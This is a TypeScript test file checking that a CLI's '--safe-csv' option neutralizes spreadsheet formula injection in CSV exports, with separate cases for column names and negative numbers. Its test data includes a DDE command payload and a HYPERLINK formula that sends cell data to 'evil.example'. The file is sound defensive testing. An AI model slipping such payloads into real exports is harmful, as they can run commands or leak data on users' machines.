/** On request, no cell of CSV is one that a spreadsheet would execute; without, every cell is what is stored. */
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, test } from 'vitest';
import { SandboxAccount } from '../../src/sandbox/index.ts';
import { createTerminal, type Terminal } from './terminal.ts';

const executable = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];
const harmless = ['a=1', '1-1', "'=1", 'mail@example.com', ' plain', ''];

let terminal: Terminal;
beforeAll(async () => {
  const account = new SandboxAccount({
    now: () => Date.UTC(2016, 5, 1),
    projects: 1,
    experimentsPerProject: executable.length + harmless.length,
  });
  const experiments = account.list('experiments');
  for (const [index, words] of [...executable, ...harmless].entries())
    account.plant('experiments', experiments[index]?.id as number, { description: words });
  terminal = createTerminal(account, undefined, false);
  await terminal.run('pull');
});

const commands: readonly (readonly string[])[] = [
  ['list', 'experiments', '--columns', 'id,description'],
  ['sql', 'SELECT id, description FROM experiments'],
  ['report', 'overview'],
];

async function descriptions(...args: readonly string[]): Promise<string[]> {
  const { status, stdout } = await terminal.run(...args);
  expect(status).toBe(0);
  const rows: Record<string, string>[] = parse(stdout, { columns: true });
  return rows.map((row) => row.description ?? row.experiment ?? '').toSorted();
}

describe.each(commands)('%s %s', (...args) => {
  test('puts an apostrophe before what would be executed, with --safe-csv', async () => {
    const wanted = [...executable.map((words) => `'${words}`), ...harmless];
    expect(await descriptions(...args, '--format', 'csv', '--safe-csv')).toEqual(wanted.toSorted());
  });

  test('gives what is stored, without', async () => {
    expect(await descriptions(...args, '--format', 'csv')).toEqual([...executable, ...harmless].toSorted());
  });

  test.each(['table', 'json'])('takes --safe-csv for CSV alone, not for %s', async (format) => {
    const { status, stderr } = await terminal.run(...args, '--format', format, '--safe-csv');
    expect({ status, stderr }).toEqual({ status: 2, stderr: '--safe-csv is for --format csv\n' });
  });
});

test('numbers stay numbers, also those below zero', async () => {
  const { stdout } = await terminal.run(
    'sql',
    "SELECT -1 AS a, -2.5 AS b, '-3' AS c, NULL AS d",
    '--format',
    'csv',
    '--safe-csv',
  );
  expect(stdout).toBe("a,b,c,d\n-1,-2.5,'-3,\n");
});

test('the names of columns are made harmless too', async () => {
  const { stdout } = await terminal.run('sql', 'SELECT 1 AS "=1+1"', '--format', 'csv', '--safe-csv');
  expect(stdout).toBe("'=1+1\n1\n");
});
